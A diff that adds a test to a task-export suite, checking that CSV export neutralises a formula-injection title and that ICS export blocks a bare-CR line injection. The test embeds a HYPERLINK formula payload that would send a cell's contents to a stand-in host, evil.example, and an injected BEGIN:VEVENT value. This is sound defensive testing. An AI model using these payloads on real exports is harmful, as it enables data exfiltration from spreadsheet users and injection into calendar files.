@@ -63,6 +63,22 @@ describe("task export", () => {
     expect(csv).not.toContain("admins-only");
   });
 
+  it("a title that is a formula stays text in CSV, and a bare CR cannot end an ICS line (atk12)", async () => {
+    const formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    await ada.publish(taskCreateBody(ada.actor, ada.state, { text: { title: formula, deliverables: "line one\rBEGIN:VEVENT" }, readers: ["admin"] }));
+    const csv = exportTasks(reader(ada), "csv", ada.state.name);
+    const py = spawnSync("python3", ["-c", "import csv,json,sys; print(json.dumps(list(csv.reader(sys.stdin, strict=True))))"], { input: csv, encoding: "utf8" });
+    expect(py.status, py.stderr).toBe(0);
+    const rows = JSON.parse(py.stdout) as string[][];
+    const title = rows[0]!.indexOf("title");
+    const cell = rows.find((r) => r[title]!.includes("HYPERLINK"))![title]!;
+    expect(cell).toBe(`'${formula}`);
+    const ics = exportTasks(reader(ada), "ics", ada.state.name);
+    expect(ics.split("\r\n").some((l) => l.startsWith("BEGIN:VEVENT"))).toBe(false);
+    const todos = new ICAL.Component(ICAL.parse(ics)).getAllSubcomponents("vtodo");
+    expect(todos.some((t) => String(t.getFirstPropertyValue("description")) === "line one\nBEGIN:VEVENT")).toBe(true);
+  });
+
   it("JSON: the tasks the member may read, with comments", () => {
     const j = JSON.parse(exportTasks(reader(sam), "json", sam.state.name)) as { pursuance: string; tasks: Array<{ title: string }> };
     expect(j.pursuance).toBe("Watchdogs");
